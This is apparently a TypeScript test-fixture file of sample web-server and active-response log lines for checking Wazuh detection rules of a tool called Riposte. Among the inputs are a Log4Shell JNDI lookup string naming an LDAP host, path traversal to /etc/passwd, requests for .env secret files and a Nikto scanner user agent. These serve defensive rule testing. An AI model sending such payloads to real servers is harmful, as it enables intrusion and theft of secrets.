import type { LogtestSample } from '../../install/wazuh5/pack.ts';

/** Lines that show each decoder and each kind of rule at work, and near misses. */
export const logtestSamples = (): LogtestSample[] => [
  alert(10, ['Riposte: an attack found by riposte serve']),
  alert(12, ['Riposte: a severe attack found by riposte serve']),
  { location: '/var/log/other.log', event: alert(12, []).event, rules: [] },
  response('blocked', ['Riposte: address blocked']),
  response('failed', ['Riposte: response failed']),
  {
    location: RESPONSES,
    event:
      'Fri Nov 20 09:29:46 UTC 2026 /var/ossec/active-response/bin/firewall-drop.js add - 203.0.113.9 - - unblocked: the time is over',
    rules: ['Riposte: address unblocked'],
  },
  access('GET /.env', ['Riposte: a request for a file that holds secrets']),
  access('GET /%2Eenv', ['Riposte: a request for a file that holds secrets']),
  access('GET /docs/environment', []),
  access('GET /.env', [], 'https://www.example.org/'),
  access('GET /a?x=%24%7Bjndi:ldap://192.0.2.1/a%7D', ['Riposte: an exploit in URL, referer or user agent']),
  access('GET /a?file=../../../../etc/passwd', ['Riposte: a payload in a URL']),
  access('GET /a?q=../../../../etc/passwd', []),
  access('GET /', ['Riposte: an attack tool by its user agent'], '-', 'Mozilla/5.00 (Nikto/2.5.0)'),
];

const RESPONSES = '/var/ossec/logs/active-responses.log';

function alert(level: number, rules: readonly string[]): LogtestSample {
  const event = JSON.stringify({
    riposte: 'alert',
    srcip: '203.0.113.9',
    level,
    rule: 117053,
    time: '2026-11-20T09:00:00.000Z',
    location: '/var/log/apache2/access.log',
    description: 'Probe: a file that holds secrets.',
    log: '203.0.113.9 - - [20/Nov/2026:09:00:00 +0000] "GET /.env HTTP/1.1" 404 330',
  });
  return { location: '/var/ossec/logs/riposte-alerts.log', event, rules };
}

function response(outcome: string, rules: readonly string[]): LogtestSample {
  const program = 'active-response/bin/firewall-drop.js';
  const message = {
    version: 1,
    origin: { name: 'firewall-drop.js', module: 'active-response' },
    command: 'add',
    parameters: {
      extra_args: [],
      alert: { id: 'a', rule: { id: 'b' }, data: { srcip: '203.0.113.9' } },
      program,
    },
    riposte: { outcome, reason: 'an example' },
  };
  return { location: RESPONSES, event: `2026/11/20 09:16:41 ${program}: ${JSON.stringify(message)}`, rules };
}

const access = (
  request: string,
  rules: readonly string[],
  referrer = '-',
  agent = 'Mozilla/5.0',
): LogtestSample => ({
  location: '/var/log/apache2/access.log',
  event: `203.0.113.9 - - [20/Nov/2026:09:00:00 +0000] "${request} HTTP/1.1" 404 330 "${referrer}" "${agent}"`,
  rules,
});
